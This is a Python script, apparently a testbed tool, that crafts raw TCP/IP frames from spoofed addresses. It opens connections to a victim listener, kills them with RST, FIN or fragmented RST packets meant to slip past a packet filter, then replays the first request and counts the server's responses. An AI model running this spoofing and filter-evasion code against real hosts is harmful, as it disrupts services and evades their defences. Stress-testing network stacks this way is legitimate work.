# SPDX-License-Identifier: GPL-2.0-only
"""Clients that want a listener's depth to end: each asks for a served name, lets its
visit die at once, and sends its first data again, as if nobody had heard it. Frames
by hand, from addresses that no kernel has.

    hostile.py DEV VICTIM_MAC VICTIM PORT NAME NETWORK HOW COUNT

NETWORK: 198.18.N; HOW: rst (right behind the data), fin (and a RST behind it),
fragments (a RST in two, which the gate cannot read). Prints what became of the
first data that came again, tallied: reset, silence.
"""
import json
import socket
import struct
import sys
import time

FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16
MSS = b"\x02\x04\x05\xb4"


def checksum(data):
    data += b"\0" * (len(data) % 2)
    s = sum(struct.unpack(f">{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


class Client:
    def __init__(self, raw, link, src, dst, sport, dport):
        self.raw, self.link = raw, link
        self.src, self.dst = socket.inet_aton(src), socket.inet_aton(dst)
        self.sport, self.dport = sport, dport
        self.seq, self.ack = 1000, 0

    def tcp(self, flags, data=b"", options=b""):
        head = struct.pack(
            ">HHIIBBHHH", self.sport, self.dport, self.seq, self.ack, (5 + len(options) // 4) << 4, flags, 65535, 0, 0
        )
        segment = head + options + data
        pseudo = self.src + self.dst + struct.pack(">BBH", 0, 6, len(segment))
        return segment[:16] + struct.pack(">H", checksum(pseudo + segment)) + segment[18:]

    def ip(self, payload, fragment=0):
        head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), self.sport, fragment, 64, 6, 0, self.src, self.dst)
        return head[:10] + struct.pack(">H", checksum(head)) + head[12:] + payload

    def send(self, *args, **more):
        self.raw.send(self.link + self.ip(self.tcp(*args, **more)))

    def send_in_fragments(self, *args):
        segment = self.tcp(*args)
        self.raw.send(self.link + self.ip(segment[:8], 0x2000))
        self.raw.send(self.link + self.ip(segment[8:], 1))

    def hear(self, flags, patience):
        """The sequence number of a segment for us with all of these flags, or None."""
        until = time.monotonic() + patience
        while time.monotonic() < until:
            self.raw.settimeout(max(0.001, until - time.monotonic()))
            try:
                f = self.raw.recv(2048)[14:]
            except socket.timeout:
                return None
            t = f[(f[0] & 15) * 4 :]
            if len(f) >= 40 and f[9] == 6 and f[16:20] == self.src and struct.unpack(">H", t[2:4])[0] == self.sport and t[13] & flags == flags:
                return struct.unpack(">I", t[4:8])[0]
        return None


def visit(c, name, how):
    request = f"GET / HTTP/1.1\r\nHost: {name}\r\n\r\n".encode()
    c.send(SYN, options=MSS)
    heard = c.hear(SYN | ACK, 3)
    if heard is None:
        sys.exit("no SYN-ACK")
    c.seq, c.ack = c.seq + 1, heard + 1
    c.send(ACK)
    first = c.seq
    c.send(PSH | ACK, request)
    c.seq += len(request)
    if how == "fin":
        c.send(FIN | ACK)
        c.seq += 1
    if how == "fragments":
        c.send_in_fragments(RST | ACK)
    else:
        c.send(RST | ACK)
    time.sleep(0.1)
    c.seq = first
    while c.hear(0, 0.001) is not None:
        pass  # whatever the server said before its socket died
    c.send(PSH | ACK, request)
    return "silence" if c.hear(RST, 0.3) is None else "reset"


def main():
    dev, mac, victim, port, name, network, how, count = sys.argv[1:]
    # All protocols: what is for one alone, the testbed's nftables drop first.
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    raw.bind((dev, 3))
    link = bytes.fromhex(mac.replace(":", "")) + raw.getsockname()[4] + b"\x08\0"
    results = {}
    for i in range(int(count)):
        c = Client(raw, link, f"{network}.{i % 250 + 1}", victim, 20000 + i, int(port))
        r = visit(c, name, how)
        results[r] = results.get(r, 0) + 1
    print(json.dumps(results, sort_keys=True))


main()
